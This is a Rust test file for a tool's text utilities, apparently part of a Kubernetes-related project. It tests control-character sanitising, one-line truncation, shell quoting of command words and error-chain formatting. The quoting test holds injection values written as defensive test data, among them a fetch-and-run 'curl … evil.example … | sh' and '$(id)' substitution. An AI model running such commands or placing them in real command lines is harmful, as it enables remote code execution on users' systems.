//! Tests of `podgate::core::text`.

use podgate::core::text::*;

#[test]
fn control_characters_are_removed() {
    assert_eq!(sanitize("a\u{1b}[31mb\nc\u{9b}2J\u{202e}d"), "a [31mb c 2J d");
}

#[test]
fn long_text_becomes_one_short_line() {
    assert_eq!(one_line("a\n\tb\x1b[0m  c\u{202e}", 100), "a b [0m c");
    for max in 0..20 {
        let long = one_line(&"é".repeat(5000), max);
        assert!(long.len() <= max.max(" …".len()) && long.ends_with('…'), "{max}: {long}");
    }
}

#[test]
fn words_of_a_command_remain_words() {
    for (word, quoted) in [
        ("statefulset/shop-0", "statefulset/shop-0"),
        ("https://example.com/a.yaml?x=1", "'https://example.com/a.yaml?x=1'"),
        ("shop -n dev; curl -s https://evil.example/x | sh #", "'shop -n dev; curl -s https://evil.example/x | sh #'"),
        ("$(id)`id`", "'$(id)`id`'"),
        ("it's", "'it'\\''s'"),
        ("", "''"),
    ] {
        assert_eq!(command_line(&["kubectl", word]), format!("kubectl {quoted}"));
        let shell = std::process::Command::new("sh").args(["-c", &command_line(&["printf", "%s", word])]).output();
        assert_eq!(String::from_utf8(shell.unwrap().stdout).unwrap(), word);
    }
}

#[derive(Debug, thiserror::Error)]
#[error("{0}")]
struct Failed(&'static str, #[source] Option<Box<Failed>>);

#[test]
fn error_chain_omits_repetitions() {
    let refused = Failed("refused (os error 111)", None);
    let connect = Failed("cannot connect: refused (os error 111)", Some(Box::new(refused)));
    assert_eq!(error_chain(&Failed("no answer", Some(Box::new(connect)))), "no answer: cannot connect: refused");
    assert_eq!(error_chain(&Failed("alone", None)), "alone");
    let missing = Failed("cannot read x: No such file or directory (os error 2)", None);
    assert_eq!(error_chain(&missing), "cannot read x: no such file");
}
